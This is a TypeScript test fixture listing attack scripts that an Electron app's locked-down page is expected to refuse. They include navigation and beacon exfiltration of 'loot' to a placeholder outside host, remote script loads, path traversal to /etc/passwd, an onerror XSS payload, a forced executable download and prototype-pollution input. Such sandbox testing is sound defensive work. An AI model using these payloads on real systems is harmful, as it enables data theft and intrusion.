/** What foreign script within our own page would try: our page is served shut, and its bridge is narrow. */
import type { Attack } from './attack.ts'

const refusedBy = (promise: string) => `return ${promise}.then(() => 'granted', () => 'refused')`
const loads = (element: string, attribute: string) =>
  `return new Promise((r) => { const e = document.createElement("${element}"); e.onload = () => r("granted"); e.onerror = () => r("refused"); e.${attribute}; document.body.append(e); setTimeout(() => r("refused"), 500) })`

export const ownPage: Attack[] = [
  { name: 'leave for elsewhere', script: 'location = "http://{elsewhere}/"', denied: 'navigation' },
  { name: 'leave for a public host', script: 'location = "https://evil.example/"', denied: 'navigation' },
  {
    name: 'leave by a link',
    script: 'const a = document.createElement("a"); a.href = "http://{elsewhere}/"; document.body.append(a); a.click()',
    denied: 'navigation'
  },
  {
    name: 'leave by a form',
    script:
      'const f = document.createElement("form"); f.action = "http://{elsewhere}/"; f.method = "post"; document.body.append(f); f.submit()'
  },
  { name: 'leave for a file', script: 'location = "file:///etc/passwd"' },
  { name: 'leave for another host of our scheme', script: 'location = "app://other/index.html"' },
  { name: 'leave for data', script: 'location = "data:text/html,x"' },
  { name: 'leave for a blob', script: 'location = URL.createObjectURL(new Blob(["x"], { type: "text/html" }))' },
  {
    name: 'leave for a file of our own that isn’t a page',
    script: 'location = "app://countersign/page.js"',
    denied: 'navigation'
  },
  {
    name: 'open a window',
    script: 'window.open("http://{elsewhere}/")',
    denied: 'new window'
  },
  {
    name: 'open a window with our own page',
    script: 'window.open("app://countersign/index.html")',
    denied: 'new window'
  },
  {
    name: 'embed a page of elsewhere',
    script:
      'const f = document.createElement("iframe"); f.src = "http://{elsewhere}/"; document.body.append(f); await new Promise((r) => setTimeout(r, 300))'
  },
  {
    name: 'embed our own page, to ask from a frame',
    script:
      'const f = document.createElement("iframe"); f.src = "app://countersign/index.html"; document.body.append(f); await new Promise((r) => setTimeout(r, 300)); try { return f.contentDocument?.title ?? "" } catch { return "" }',
    answers: ''
  },
  {
    name: 'fetch from elsewhere',
    script: refusedBy('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
    answers: 'refused'
  },
  {
    name: 'fetch a file outside our folder',
    script: 'return fetch("/..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd").then((r) => r.status, () => 404)',
    answers: 404
  },
  {
    name: 'fetch our own sources',
    script: 'return fetch("/..%2fattacks.spec.ts").then((r) => r.status, () => 404)',
    answers: 404
  },
  {
    name: 'write to our scheme',
    script: 'return fetch("/index.html", { method: "POST", body: "x" }).then((r) => r.status, () => 405)',
    answers: 405
  },
  { name: 'load a picture from elsewhere', script: loads('img', 'src = "http://{elsewhere}/"'), answers: 'refused' },
  { name: 'load a script from elsewhere', script: loads('script', 'src = "http://{elsewhere}/"'), answers: 'refused' },
  {
    name: 'load a style from elsewhere',
    script: loads('link', 'rel = "stylesheet"; e.href = "http://{elsewhere}/"'),
    answers: 'refused'
  },
  {
    name: 'embed an object',
    script:
      'const o = document.createElement("object"); o.data = "http://{elsewhere}/"; document.body.append(o); await new Promise((r) => setTimeout(r, 300))'
  },
  {
    name: 'run a script that it writes',
    script:
      'const s = document.createElement("script"); s.textContent = "window.owned = true"; document.body.append(s); return window.owned === true',
    answers: false
  },
  {
    name: 'run a script from an attribute',
    script:
      'const d = document.createElement("div"); d.innerHTML = `<img src=x onerror="window.owned2 = true">`; document.body.append(d); await new Promise((r) => setTimeout(r, 300)); return window.owned2 === true',
    answers: false
  },
  {
    name: 'change what all links mean',
    script:
      'const b = document.createElement("base"); b.href = "http://{elsewhere}/"; document.head.append(b); const changed = document.baseURI.includes("{elsewhere}"); b.remove(); return changed',
    answers: false
  },
  {
    name: 'speak over a socket',
    script:
      'return new Promise((r) => { try { const s = new WebSocket("ws://{elsewhere}/"); s.onopen = () => r("granted"); s.onerror = () => r("refused") } catch { r("refused") } })',
    answers: 'refused'
  },
  {
    name: 'send a last word',
    script: 'navigator.sendBeacon("http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))'
  },
  {
    name: 'save a file',
    script:
      'const a = document.createElement("a"); a.download = "run.exe"; a.href = URL.createObjectURL(new Blob(["MZ"])); document.body.append(a); a.click()'
  },
  {
    name: 'watch through the camera',
    script: refusedBy('(navigator.mediaDevices?.getUserMedia({ video: true }) ?? Promise.reject())'),
    answers: 'refused'
  },
  {
    name: 'read the clipboard',
    script: refusedBy('(navigator.clipboard?.readText() ?? Promise.reject())'),
    answers: 'refused'
  },
  { name: 'notify', script: 'return Notification.requestPermission()', answers: 'denied' },
  {
    name: 'use an element that holds other pages',
    script:
      'const w = document.createElement("webview"); w.src = "http://{elsewhere}/"; document.body.append(w); return typeof w.loadURL',
    answers: 'undefined'
  },
  {
    name: 'find more of Electron or Node than the bridge',
    script:
      'return ["require", "process", "module", "ipcRenderer", "electron", "Buffer", "global"].filter((name) => name in window)',
    answers: []
  },
  {
    name: 'name a channel of its own choice',
    script:
      'return [typeof countersign.invoke, typeof countersign.send, typeof countersign.accounts.drop, typeof countersign.ipcRenderer]',
    answers: ['undefined', 'undefined', 'undefined', 'undefined']
  },
  {
    name: 'listen to what is not an event',
    script: 'try { countersign.on("ipc-message", () => {}); return "granted" } catch { return "refused" }',
    answers: 'refused'
  },
  {
    name: 'put its own function in the bridge’s place',
    script:
      '"use strict"; try { countersign.accounts.remove = () => "mine" } catch {} return String(countersign.accounts.remove).includes("mine")',
    answers: false
  },
  {
    name: 'ask with the wrong shape',
    script: 'return countersign.drafts.get({ id: "a", path: "/etc/passwd" }).then((r) => r.error?.code)',
    answers: 'bad-input'
  },
  {
    name: 'ask with nothing',
    script: 'return countersign.drafts.get().then((r) => r.error?.code)',
    answers: 'bad-input'
  },
  {
    name: 'ask with a prototype',
    script: 'return countersign.drafts.get(JSON.parse(`{"__proto__":{"id":"a"}}`)).then((r) => r.error?.code)',
    answers: 'bad-input'
  }
]
